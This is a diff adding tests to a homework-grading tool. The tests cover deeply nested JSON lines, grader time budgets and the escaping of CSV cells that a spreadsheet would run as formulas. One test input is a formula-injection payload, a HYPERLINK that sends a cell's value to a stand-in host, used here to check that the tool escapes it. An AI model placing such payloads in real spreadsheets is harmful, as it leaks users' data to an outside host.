@@ -2,13 +2,16 @@
 broken rows reported per row, a 1,000-row file, and the command."""
 
 import csv
+import io
 import json
 import random
+import time
+from types import SimpleNamespace
 
 import pytest
 
 from agentic_jax.apps import grade
-from agentic_jax.apps.homework import parse_homework, read_homework
+from agentic_jax.apps.homework import parse_homework, read_homework, write_results_csv
 from agentic_jax.apps.sandboxes import grading_sandbox
 from agentic_jax.data import generate_curriculum
 
@@ -73,6 +76,24 @@ def test_broken_rows_get_a_reason_each():
         parse_homework("", "xlsx")
 
 
+def test_a_deeply_nested_jsonl_line_is_one_bad_row():
+    good = '{"answer": "1", "student_answer": "1"}'
+    rows = parse_homework("\n".join([good, "[" * 100_000, '{"answer": ' + "[" * 50 + "]" * 50
+                                      + "}", good]), "jsonl")
+    assert [bool(r.error) for r in rows] == [False, True, True, False]
+    assert "nested" in rows[1].error and "nested 51 levels" in rows[2].error
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text():
+    answers = ['=HYPERLINK("http://x.example/?"&A1, "see")', "@SUM(A1:A9)", "+1+2", "-3+2",
+               "\t=1", "\r=1", "-", "-3", "+2.5", "-1.5e3", "3", "x = -3"]
+    out = io.StringIO()
+    write_results_csv([{"row": i, "answer": a} for i, a in enumerate(answers)], out)
+    cells = [r["answer"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
+    assert cells[:7] == ["'" + a for a in answers[:7]]
+    assert cells[7:] == answers[7:]  # numbers stay numbers; text not starting a formula as is
+
+
 def _homework_file(path, n=1000):
     """n rows from the curriculum: right, wrong and rephrased answers, some tests, some code
     and some broken rows."""
@@ -113,12 +134,58 @@ def test_a_thousand_row_file(tmp_path, sandbox):
 
 def test_the_command_writes_csv(tmp_path, capsys):
     src = tmp_path / "hw.jsonl"
-    src.write_text(_jsonl([{"question": "q", "answer": "2", "student_answer": "2"},
-                           {"question": "q", "answer": "2", "student_answer": "5"}]) + "\nbad\n")
+    good = _jsonl([{"question": "q", "answer": "2", "student_answer": "2"},
+                   {"question": "q", "answer": "2", "student_answer": "5"}])
+    src.write_text(good)
     out = tmp_path / "graded.csv"
     assert grade.main([f"--input={src}", f"--out={out}"]) == 0
+    capsys.readouterr()
+    # A bad line (here nested past the JSON depth bound) among good ones: every good row is
+    # graded and written, one line names it, exit status 2, no traceback.
+    src.write_text(good + "\n" + "[" * 100_000 + "\nbad\n")
+    assert grade.main([f"--input={src}", f"--out={out}"]) == 2
     with open(out) as f:
         rows = list(csv.DictReader(f))
-    assert [r["verdict"] for r in rows] == ["correct", "incorrect", "error"]
+    assert [r["verdict"] for r in rows] == ["correct", "incorrect", "error", "error"]
+    err = capsys.readouterr().err.strip().splitlines()[-1]
+    assert err.startswith("error: 2 row(s) could not be graded; first: row 3: not a JSON line")
+    assert grade.main([f"--input={src}", f"--out={tmp_path / 'no' / 'dir.csv'}"]) == 2
+    assert capsys.readouterr().err.strip().splitlines()[-1].startswith("error: --out:")
     assert grade.main([f"--input={tmp_path / 'missing.csv'}", f"--out={out}"]) == 2
     assert "no such file" in capsys.readouterr().err
+
+
+class _SlowSandbox:
+    """Every snippet takes ``step_s`` (student code that loops until its timeout)."""
+
+    def __init__(self, step_s):
+        self.step_s, self.ran = step_s, 0
+
+    def run_batch(self, codes):
+        time.sleep(self.step_s * len(codes))
+        self.ran += len(codes)
+        return [SimpleNamespace(ok=True, stdout="2\n", error=None, message="") for _ in codes]
+
+
+def test_an_upload_gets_a_time_budget(monkeypatch):
+    rows = parse_homework(_jsonl([{"answer": "2", "code": "while True: pass"}] * 200), "jsonl")
+    sandbox = _SlowSandbox(step_s=0.01)
+    start = time.monotonic()
+    out = grade.grade_rows(rows, sandbox, time_budget_s=0.2)
+    assert time.monotonic() - start < 1.0 and sandbox.ran < 60
+    assert out[0].verdict == "correct"
+    assert out[-1].verdict == "error" and "0.2 s budget ran out" in out[-1].error
+    assert grade.summary(out)["rows"] == 200
+    assert all(r.verdict == "correct" for r in grade.grade_rows(rows[:20], _SlowSandbox(0.001)))
+    # Answers the grader compares slowly (10 ms each here: 4 s for the upload) get the budget
+    # again, on their own.
+    def slow_grade(predicted, reference):
+        time.sleep(0.01)
+        return predicted == reference
+
+    monkeypatch.setattr(grade, "grade_answer", slow_grade)
+    answers = parse_homework(_jsonl([{"answer": "2", "student_answer": "2"}] * 400), "jsonl")
+    start = time.monotonic()
+    out = grade.grade_rows(answers, _SlowSandbox(0.0), time_budget_s=0.3)
+    assert time.monotonic() - start < 1.5
+    assert out[0].verdict == "correct" and out[-1].verdict == "error"
